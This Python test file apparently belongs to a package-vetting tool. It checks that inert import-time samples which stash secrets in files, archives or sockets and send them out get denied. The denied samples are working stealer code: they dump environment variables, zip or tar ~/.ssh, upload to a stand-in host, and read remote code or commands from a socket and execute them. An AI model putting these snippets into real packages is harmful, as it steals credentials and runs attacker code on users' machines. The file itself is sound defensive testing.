"""Secrets stashed in a file or an archive and sent by it, or written to a socket's file or
TLS stream (issue 16; ADR 0193).

What a stealer most often does: write the environment into a file in the temporary folder,
or pack ``~/.ssh`` into a zip, then upload the file by its path. The open file carried what
was written, but the later ``open(P, 'rb')`` was a new file that carried nothing, and a file
added to an archive by its path put nothing into it; sent from a function run on import it
was a plain network call (allowed). So was a secret written by a TLS socket's ``write`` or
into a socket's ``makefile('w')``. Every sample is inert: vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

URL = "https://api.pyrelay.net/v1/e"
HEAD = "import glob, io, json, os, socket, ssl, tarfile, tempfile, zipfile, requests\n"
UPLOAD = f"    requests.post({URL!r}, files={{'f': open(P, 'rb')}})\n"


def on_import(body: str) -> dict[str, str]:
    """``__init__.py`` running ``body`` in a function called on import."""
    return init(f"{HEAD}P = '/tmp/.cache_l.bin'\n\n\ndef _go():\n{body}\n\n_go()\n")


DENIED: dict[str, Mapping[str, str]] = {
    "environment-written-to-a-file-then-uploaded": on_import(
        "    with open(P, 'w') as f:\n        f.write(json.dumps(dict(os.environ)))\n" + UPLOAD
    ),
    "environment-dumped-to-a-temporary-file-then-uploaded": on_import(
        "    p = os.path.join(tempfile.gettempdir(), 'e.json')\n"
        "    with open(p, 'w') as f:\n        json.dump(dict(os.environ), f)\n"
        f"    requests.post({URL!r}, data=open(p, 'rb').read())\n"
    ),
    "ssh-keys-zipped-then-uploaded": on_import(
        "    z = zipfile.ZipFile(P, 'w')\n"
        "    for k in glob.glob(os.path.expanduser('~/.ssh/*')):\n        z.write(k)\n"
        "    z.close()\n" + UPLOAD
    ),
    "ssh-folder-tarred-then-uploaded": on_import(
        "    with tarfile.open(P, 'w:gz') as t:\n        t.add(os.path.expanduser('~/.ssh'))\n"
        + UPLOAD
    ),
    "environment-zipped-into-a-buffer": on_import(
        "    b = io.BytesIO()\n    with zipfile.ZipFile(b, 'w') as z:\n"
        "        z.writestr('e.json', json.dumps(dict(os.environ)))\n"
        f"    requests.post({URL!r}, data=b.getvalue())\n"
    ),
    "environment-written-by-pathlib-then-read-back": on_import(
        "    import pathlib\n    p = pathlib.Path(P)\n"
        "    p.write_text(json.dumps(dict(os.environ)))\n"
        f"    requests.post({URL!r}, data=p.read_bytes())\n"
    ),
    "environment-written-then-copied-then-uploaded": on_import(
        "    import shutil\n    with open(P, 'w') as f:\n        json.dump(dict(os.environ), f)\n"
        "    shutil.copy(P, '/tmp/.cache_m.bin')\n"
        f"    requests.post({URL!r}, files={{'f': open('/tmp/.cache_m.bin', 'rb')}})\n"
    ),
    "environment-written-by-a-tls-socket": on_import(
        "    s = ssl.create_default_context().wrap_socket(\n"
        "        socket.create_connection(('relay.pyrelay.net', 443)),"
        " server_hostname='relay.pyrelay.net')\n"
        "    s.write(repr(os.environ).encode())\n"
    ),
    "environment-written-into-a-sockets-file": on_import(
        "    f = socket.create_connection(('relay.pyrelay.net', 80)).makefile('w')\n"
        "    f.write(repr(os.environ))\n    f.flush()\n"
    ),
}

# What a socket's file reads is what the socket reads: downloaded code run is still a
# download run when read through ``makefile`` (it was before the file became the socket).
DENIED |= {
    "code-read-from-a-socket-s-file-and-run": init(
        "import socket\ns = socket.create_connection(('203.0.113.5', 80))\n"
        "exec(s.makefile('rb').read())\n"
    ),
    "a-command-read-from-a-socket-s-file-and-run": init(
        "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 80))\n"
        "with s.makefile('r') as f:\n    os.system(f.readline())\n"
    ),
}
ALLOWED: dict[str, Mapping[str, str]] = {
    # A report of the interpreter, written and uploaded: nothing secret is in it.
    "report-written-then-uploaded": on_import(
        "    import platform\n    with open(P, 'w') as f:\n"
        "        f.write(json.dumps({'python': platform.python_version()}))\n" + UPLOAD
    ),
    # A build's log written by pathlib, copied and uploaded: nothing secret is in it.
    "log-written-by-pathlib-copied-and-uploaded": on_import(
        "    import pathlib, shutil, sys\n    p = pathlib.Path(P)\n    p.write_text(sys.version)\n"
        "    shutil.copy(P, '/tmp/.cache_m.bin')\n"
        f"    requests.post({URL!r}, data=p.read_bytes())\n"
    ),
    # A backup of the caller's project folder, zipped and uploaded when asked.
    "project-zipped-and-uploaded-when-called": init(
        f"{HEAD}\n\ndef backup(folder, url):\n    with zipfile.ZipFile('/tmp/b.zip', 'w') as z:\n"
        "        for p in glob.glob(os.path.join(folder, '**', '*.py'), recursive=True):\n"
        "            z.write(p)\n"
        "    return requests.post(url, files={'f': open('/tmp/b.zip', 'rb')})\n"
    ),
    # A CLI keeps the token it was given in its own file and sends it to its host, when asked.
    "token-kept-in-its-own-file-sent-when-called": init(
        f"{HEAD}TOKEN_FILE = os.path.expanduser('~/.config/mysvc/token')\n\n\n"
        "def login():\n    with open(TOKEN_FILE, 'w') as f:\n"
        "        f.write(os.environ.get('MYSVC_TOKEN', ''))\n\n\n"
        "def whoami():\n    with open(TOKEN_FILE) as f:\n"
        "        return requests.get('https://api.mysvc.example/me',"
        " headers={'Authorization': 'Bearer ' + f.read()})\n"
    ),
    # A TLS probe of the host its caller names, sending a constant request.
    "tls-probe-when-called": init(
        f"{HEAD}\n\ndef probe(host):\n"
        "    s = ssl.create_default_context().wrap_socket(\n"
        "        socket.create_connection((host, 443)), server_hostname=host)\n"
        "    s.write(b'HEAD / HTTP/1.0\\r\\n\\r\\n')\n    return s.read(64)\n"
    ),
    # A package's own data zipped on import, sent nowhere.
    "own-data-zipped-on-import": init(
        f"{HEAD}with zipfile.ZipFile('/tmp/evpkg-data.zip', 'w') as z:\n"
        "    z.write(os.path.join(os.path.dirname(__file__), 'data.json'), 'data.json')\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_secrets_stashed_then_sent(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
